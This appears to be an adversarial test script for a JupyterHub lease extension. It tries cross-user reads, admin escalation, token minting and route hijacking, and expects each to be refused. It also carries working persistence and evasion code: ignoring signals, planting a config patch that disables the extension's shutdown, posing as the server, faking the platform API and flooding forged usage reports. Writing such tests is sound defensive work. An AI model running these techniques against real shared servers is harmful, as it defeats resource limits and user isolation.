"""What hostile code in a user's server tries. Standalone: it is run in kernels of that server, and by its own Python.

    python hostile.py live          lives on, whatever it is told; notes in ~/life-<lease> until when
    python hostile.py flood FACTS   forges reports and asks for all that moves a deadline, as fast as it can
    python hostile.py pose          is the user's server, without the extension
    python hostile.py lie           is a platform that says whatever keeps the extension quiet

What it finds out it writes to the user's home, where the test reads it.
"""

import contextlib
import http.client
import http.server
import itertools
import json
import os
import signal
import socket
import subprocess
import sys
import threading
import time
from collections.abc import Iterator
from datetime import UTC, datetime, timedelta
from pathlib import Path
from urllib.parse import urlsplit

HOME = Path(os.environ.get("HOME", "/nonexistent"))
LEASE = os.environ.get("SUBLET_LEASE_ID", "")
TOKEN = os.environ.get("JUPYTERHUB_API_TOKEN", "")
SELF = HOME / "hostile.py"
CONFIG = HOME / ".jupyter" / "jupyter_server_config.py"
FLOODERS = 3
FORGED_KERNELS = 99
FORGED: dict[str, int] = {}
"""What forged reports were answered, how often."""
LIE_PORT_FILE = HOME / "lie-port"

Answer = tuple[int, str]
"""Status and body; 0 where nothing answered."""
Attempt = tuple[str, str, str, object]
"""What is tried in words, method, address, body."""


def ask(method: str, url: str, body: object = None, token: str | None = None, **headers: str) -> Answer:
    """Ask, without following where one is sent."""
    parts = urlsplit(url)
    shown = {} if token is None else {"Authorization": f"token {token}"}
    text = None if body is None else json.dumps(body)
    typed = {} if body is None else {"Content-Type": "application/json"}
    line = http.client.HTTPConnection(parts.hostname or "", parts.port, timeout=20)
    try:
        line.request(method, parts._replace(scheme="", netloc="").geturl(), text, {**shown, **typed, **headers})
        answer = line.getresponse()
        return answer.status, answer.read(100_000).decode(errors="replace")
    except OSError as error:
        return 0, repr(error)
    finally:
        line.close()


def moment(seconds: float) -> str:
    """So many seconds from now."""
    return (datetime.now(UTC) + timedelta(seconds=seconds)).isoformat(timespec="milliseconds")


def record(seconds: float = 0, busy: int = 0, percent: int = 0) -> dict[str, object]:
    """A forged record."""
    memory = {"memory_used_bytes": percent, "memory_total_bytes": 100}
    gpu = {"device": "GPU-forged", "utilisation_percent": percent, **memory}
    return {"at": moment(seconds), "seconds": 60, "gpus": [gpu], "kernels": FORGED_KERNELS, "kernels_busy": busy}


def thefts(public: str, user: str, lease: str, direct: str, me: str) -> Iterator[Attempt]:
    """All that would be another's, or more than one's own: each must be refused. `direct`: that server's own port."""
    api, hub = f"{public}/services/sublet/api", f"{public}/hub/api"
    mine = record(-60, busy=1, percent=100)
    for what, path in (("lease", ""), ("events", "/events"), ("activity", "/activity")):
        yield f"read another's {what}", "GET", f"{api}/leases/{lease}{path}", None
    yield "report for another", "POST", f"{api}/leases/{lease}/activity", {"records": [mine]}
    yield "stop another", "POST", f"{api}/leases/{lease}/stop", {}
    yield "stop another later", "POST", f"{api}/leases/{lease}/stop", {"at": moment(5)}
    yield "keep another", "POST", f"{api}/leases/{lease}/keep", {}
    for query in (f"leases?user={user}", f"usage?account=user:{user}", f"audit?subject=user:{user}"):
        yield f"list {query.partition('?')[0]} of another", "GET", f"{api}/{query}", None
    for query in (f"audit?lease={lease}", f"notices?lease={lease}", f"flavors?user={user}"):
        yield f"list {query.partition('=')[0]} of another", "GET", f"{api}/{query}", None
    limits = {"limits": [{"what": "gpus", "limit": 99}]}
    for whose, name in (("another's", user), ("one's own", me)):
        yield f"set {whose} quota", "PUT", f"{api}/quotas/users/{name}", limits
        yield f"set {whose} quota at the hub", "PUT", f"{hub}/quotas/users/{name}", limits
        yield f"make a token in {whose} name", "POST", f"{hub}/users/{name}/tokens", {"scopes": ["self"]}
        yield f"start {whose} server", "POST", f"{hub}/users/{name}/servers/x", {"flavor": "one"}
        yield f"stop {whose} server at the hub", "DELETE", f"{hub}/users/{name}/server", None
        yield f"make an admin of {name}", "PATCH", f"{hub}/users/{name}", {"admin": True}
        wanted = {"user": name, "account": f"user:{name}", "flavor": "one", "tier": "guaranteed", "groups": []}
        yield f"ask for a lease for {name} past the hub", "POST", f"{api}/leases", wanted
    yield "set the default quota", "PUT", f"{api}/quotas/default", limits
    yield "read another's quota", "GET", f"{api}/quotas/users/{user}", None
    for path in ("users", f"users/{user}", "groups", "services", "proxy", f"users/{user}/tokens"):
        yield f"read the hub's {path.replace(user, 'USER')}", "GET", f"{hub}/{path}", None
    yield "be active for another", "POST", f"{hub}/users/{user}/activity", {"last_activity": moment(0)}
    yield "shut the hub down", "POST", f"{hub}/shutdown", {}
    port = urlsplit(public).port or 0
    routes, past = f"http://127.0.0.1:{port + 1}/api/routes", f"http://127.0.0.1:{port + 82}{urlsplit(api).path}"
    yield "read the proxy's routes", "GET", routes, None
    yield "take another's route", "POST", f"{routes}/user/{user}", {"target": public}
    yield "read another's lease past the proxy", "GET", f"{past}/leases/{lease}", None
    for way, base in (("", public), (" past the proxy", direct)):
        own = f"{base}/user/{user}"
        for path in ("sublet/state", "sublet/events", "sublet/quota", "api/contents/secret.txt", "files/secret.txt"):
            yield f"read another's {path}{way}", "GET", f"{own}/{path}", None
        for path in ("sublet/stop", "sublet/keep", "sublet/dismiss", "sublet/saved", "api/kernels", "api/terminals"):
            yield f"post another's {path}{way}", "POST", f"{own}/{path}", {}


def in_ones_own_name(public: str, lease: str) -> Iterator[Attempt]:
    """What a token may as long as its server runs."""
    api = f"{public}/services/sublet/api"
    yield "list one's own leases", "GET", f"{api}/leases", None
    yield "read one's own quota", "GET", f"{api}/quota", None
    yield "read one's own lease", "GET", f"{api}/leases/{lease}", None
    yield "report for one's own lease", "POST", f"{api}/leases/{lease}/activity", {"records": [record()]}
    yield "stop one's own lease", "POST", f"{api}/leases/{lease}/stop", {}
    yield "keep one's own lease", "POST", f"{api}/leases/{lease}/keep", {}
    yield "ask the hub who one is", "GET", f"{public}/hub/api/user", None


def overreaches(public: str) -> Iterator[Attempt]:
    """What one's own lease may not be told or asked."""
    own = f"{public}/services/sublet/api/leases/{LEASE}"
    yield "report of tomorrow", "POST", f"{own}/activity", {"records": [record(86_400, busy=1)]}
    yield "report of yesterday", "POST", f"{own}/activity", {"records": [record(-86_400, busy=1)]}
    yield "report what was used", "POST", f"{own}/activity", {"records": [record() | {"gpu_seconds": 0}]}
    yield "stop for a reason of one's own", "POST", f"{own}/stop", {"reason": "shutdown"}
    yield "stop after the deadline", "POST", f"{own}/stop", {"at": moment(30 * 86_400)}
    yield "stop in the past", "POST", f"{own}/stop", {"at": moment(-3600)}
    yield "keep past the limit", "POST", f"{own}/keep", {}


def steal(facts: dict[str, str], me: str) -> dict[str, Answer]:
    """Everything, with this server's token; and what is seen of others from inside."""
    done = {name: ask(method, url, body, TOKEN) for name, method, url, body in thefts(me=me, **facts)}
    done["see another's processes or sockets"] = (403, "") if not _others(facts["lease"]) else (200, "seen")
    return done


def overreach(public: str) -> dict[str, Answer]:
    """What goes too far in one's own lease, with its own token."""
    return {name: ask(method, url, body, TOKEN) for name, method, url, body in overreaches(public)}


def _others(lease: str) -> list[str]:
    """Traces of another lease: its folder in /tmp, its processes' environment, its sockets, its home."""
    found = [str(path) for path in Path("/tmp").glob(f"*{lease}*")]
    found += [line for line in Path("/proc/net/unix").read_text().splitlines() if f"@{lease}" in line]
    found += [str(path) for path in HOME.parent.iterdir() if path != HOME]
    for environment in Path("/proc").glob("[0-9]*/environ"):
        with contextlib.suppress(OSError):
            found += [str(environment)] if lease.encode() in environment.read_bytes() else []
    return found


# ------------------------------------------------------------------ in one's own server


def run(what: str, *args: str) -> None:
    """Run this file in the background, out of reach of the server's own stopping."""
    log = (HOME / f"{what}.log").open("wb")
    command = [sys.executable, str(SELF), what, *args]
    subprocess.Popen(command, start_new_session=True, stdin=subprocess.DEVNULL, stdout=log, stderr=log)


PATCHED = """
import os, signal, subprocess, sys
subprocess.Popen([sys.executable, {self!r}, "live"], start_new_session=True)
import sublet_server.app as app
async def nothing(*args, **kwargs): pass
for name in ("_start_jupyter_server_extension", "stop_extension", "_stop_gently"):
    setattr(app.SubletServer, name, nothing)
app.guard_kernels = app.guard_terminals = app.heed_sigterm = lambda *args: None
from jupyter_server.serverapp import ServerApp
ServerApp._handle_sigterm = ServerApp._signal_stop = ServerApp.stop = lambda *args, **kwargs: None
open(os.path.expanduser("~/patched-" + os.environ["SUBLET_LEASE_ID"]), "w").close()
"""
POSED = """
import os, sys
os.execv(sys.executable, [sys.executable, {self!r}, "pose"])
"""
LIED_TO = """
import os, subprocess, sys, time
subprocess.Popen([sys.executable, {self!r}, "live"], start_new_session=True)
subprocess.Popen([sys.executable, {self!r}, "lie"], start_new_session=True)
port = os.path.expanduser("~/lie-port")
while not os.path.exists(port):
    time.sleep(0.05)
os.environ["SUBLET_API_URL"] = "http://127.0.0.1:" + open(port).read()
os.environ["SUBLET_STOP_GRACE_SECONDS"] = "86400"
c.SubletServer.grace_seconds = 86400
"""
WAYS = {"patch": PATCHED, "pose": POSED, "lie": LIED_TO}


def plant(way: str) -> None:
    """Have the next server of this user begin with code of ours, and leave this one's token behind."""
    CONFIG.parent.mkdir(exist_ok=True)
    CONFIG.write_text(WAYS[way].format(self=str(SELF)))
    leave_token()


def leave_token() -> None:
    (HOME / f"token-{LEASE}").write_text(TOKEN)


def live() -> None:
    """Live on, and note until when."""
    for number in (signal.SIGTERM, signal.SIGINT, signal.SIGHUP, signal.SIGQUIT):
        signal.signal(number, signal.SIG_IGN)
    with (HOME / f"life-{LEASE}").open("a", buffering=1) as life:
        while True:
            life.write(f"{time.time_ns() // 1_000_000}\n")
            time.sleep(0.05)


class Anything(http.server.BaseHTTPRequestHandler):
    """Answers whatever it is asked."""

    def do_GET(self) -> None:
        self.send_response(200)
        self.send_header("Content-Length", "2")
        self.end_headers()
        self.wfile.write(b"{}")

    def do_POST(self) -> None:
        self.do_GET()

    def log_message(self, *_args: object) -> None:
        """Say nothing."""


def pose() -> None:
    """Be the server: the hub hears an answer, and there is no extension."""
    run("live")
    threading.Thread(target=flood, args=(0.2,), daemon=True).start()
    for number in (signal.SIGTERM, signal.SIGINT):
        signal.signal(number, signal.SIG_IGN)
    url = urlsplit(os.environ["JUPYTERHUB_SERVICE_URL"])
    http.server.ThreadingHTTPServer((url.hostname or "", url.port or 0), Anything).serve_forever()


def lie() -> None:
    """Be the platform: a lease that ends in 2099, on an event stream; reports are never answered."""
    told = {"id": LEASE, "state": "active", "deadline_at": "2099-01-01T00:00:00.000Z", "deadline_reason": "limit"}
    quiet = threading.Event()

    class Platform(Anything):
        def do_GET(self) -> None:
            if not self.path.endswith("/events"):
                super().do_GET()
                return
            self.send_response(200)
            self.send_header("Content-Type", "text/event-stream")
            self.end_headers()
            self.wfile.write(f"event: lease\ndata: {json.dumps(told)}\n\n".encode())
            (HOME / f"lied-{LEASE}").touch()
            quiet.wait()

        def do_POST(self) -> None:
            quiet.wait()

    LIE_PORT_FILE.unlink(missing_ok=True)
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Platform)
    fresh = LIE_PORT_FILE.with_suffix(".new")
    fresh.write_text(str(server.server_port))
    fresh.replace(LIE_PORT_FILE)
    server.serve_forever()


def flood(pause: float = 0.0) -> None:
    """Forge, and ask for whatever moves a deadline, until the end; `flood.json` says what was answered how often."""
    own = f"{os.environ['SUBLET_API_URL']}/leases/{LEASE}"
    counts: dict[str, int] = {}

    def storm() -> None:
        kept: list[socket.socket] = []
        for number in itertools.count():
            forged = [record(-second, busy=number % 2, percent=number % 101) for second in range(120)]
            asked: list[tuple[str, object]] = [("activity", {"records": forged}), ("keep", {})]
            asked += [("stop", {"at": moment(seconds)}) for seconds in (6 * 3600, 7200)]
            for what, body in asked:
                key = {"Idempotency-Key": os.urandom(8).hex()} if number % 2 else {}
                status, _ = ask("POST", f"{own}/{what}", body, TOKEN, **key)
                name = f"{what} {status}"
                counts[name] = counts.get(name, 0) + 1
                time.sleep(pause)
            kept.append(_hold_stream(own))
            if len(kept) > 20:
                kept.pop(0).close()

    for _ in range(FLOODERS):
        threading.Thread(target=storm, daemon=True).start()
    while True:
        time.sleep(0.5)
        fresh = HOME / "flood.new"
        fresh.write_text(json.dumps(counts.copy()))
        fresh.replace(HOME / "flood.json")


def forge(others: list[str]) -> None:
    """Report work for one's own lease ahead of the extension, and that others do nothing, until the end."""
    api = os.environ["SUBLET_API_URL"]
    while True:
        told = [("own", LEASE, record(ahead, busy=1, percent=100)) for ahead in (0, 60)]
        told += [("another", lease, record()) for lease in others]
        for whose, lease, forged in told:
            status, _ = ask("POST", f"{api}/leases/{lease}/activity", {"records": [forged]}, TOKEN)
            FORGED[f"{whose} {status}"] = FORGED.get(f"{whose} {status}", 0) + 1
        (HOME / "forged.json").write_text(json.dumps(FORGED.copy()))
        time.sleep(5)


def _hold_stream(own: str) -> socket.socket:
    """Open an event stream and never read it."""
    url = urlsplit(own)
    line = socket.create_connection((url.hostname or "", url.port or 80), timeout=20)
    line.sendall(
        f"GET {url.path}/events HTTP/1.1\r\nHost: {url.netloc}\r\nAuthorization: token {TOKEN}\r\n\r\n".encode()
    )
    return line


if __name__ == "__main__" and len(sys.argv) > 1 and sys.argv[1] in {"live", "flood", "pose", "lie"}:
    {"live": live, "flood": flood, "pose": pose, "lie": lie}[sys.argv[1]]()
